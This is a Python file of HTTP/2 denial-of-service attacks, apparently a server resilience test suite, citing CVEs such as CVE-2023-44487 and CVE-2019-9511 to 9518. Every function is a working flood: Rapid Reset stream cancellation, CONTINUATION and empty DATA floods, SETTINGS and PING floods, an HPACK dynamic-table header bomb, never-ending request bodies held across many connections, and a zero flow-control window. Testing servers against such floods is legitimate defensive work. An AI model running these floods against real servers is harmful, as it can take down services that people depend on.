# HTTP/2 and its floods: CVE-2019-9511 to 9518, CVE-2016-1544, CVE-2023-44487, CVE-2024-24549 and kin.
from wire import *


@attack
def rapid_reset():
    with http2() as sock:
        for first in range(1, 40001, 200):
            if not push(sock, b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, number, request()) +
                    frame(RST_STREAM, 0, number, b"\0\0\0\x08") for number in range(first, first + 200, 2))):
                break
        hear(sock)


@attack
def continuations():
    with http2() as sock:
        push(sock, frame(HEADERS, 0, 1, request()))
        push(sock, frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000), 500)
        hear(sock)


@attack
def empty_continuations():
    with http2() as sock:
        push(sock, frame(HEADERS, 0, 1, request()))
        push(sock, frame(CONTINUATION, 0, 1) * 5000, 100)
        hear(sock)


@attack
def empty_data():
    with http2() as sock:
        push(sock, frame(HEADERS, END_HEADERS, 1, request(0x83)))
        push(sock, frame(DATA, 0, 1) * 5000, 100)
        hear(sock)


@attack
def settings():
    with http2() as sock:
        push(sock, frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 20) * 500, 100)
        hear(sock)


@attack
def pings():
    with http2() as sock:
        push(sock, frame(PING, 0, 0, b"attacker") * 4000, 100)
        hear(sock)


@attack
def header_bomb():
    """One header of 4000 bytes in the dynamic table, then a byte for each time it is meant."""
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000
    with http2() as sock:
        push(sock, frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + entry))
        for number in range(3, 203, 2):
            block = request() + b"\xbe" * 16000
            if not push(sock, frame(HEADERS, END_HEADERS | END_STREAM, number, block)):
                break
        hear(sock)


@attack
def streams():
    """Thousands of requests whose bodies never end."""
    with http2() as sock:
        for number in range(1, 20001, 2):
            if not push(sock, frame(HEADERS, END_HEADERS, number, request(0x83)) + frame(DATA, 0, number, bytes(8000))):
                break
        hear(sock)


@attack
def streams_on_many_connections():
    held = []
    block = request(0x83) + (b"\x00\x02xx\x7f\x9c\x01" + b"a" * 283) * 50
    for _ in range(60):
        held.append(http2())
        push(held[-1], b"".join(
            frame(HEADERS, END_HEADERS, number, block) + frame(DATA, 0, number, bytes(16000))
            for number in range(1, 200, 2)))
    for sock in held:
        sock.close()


@attack
def closed_window():
    """A window of nothing: every answer waits."""
    with http2(settings=b"\0\4\0\0\0\0") as sock:
        for number in range(1, 4001, 2):
            if not push(sock, frame(HEADERS, END_HEADERS | END_STREAM, number, request(path=b"/tool.bin"))):
                break
        hear(sock)
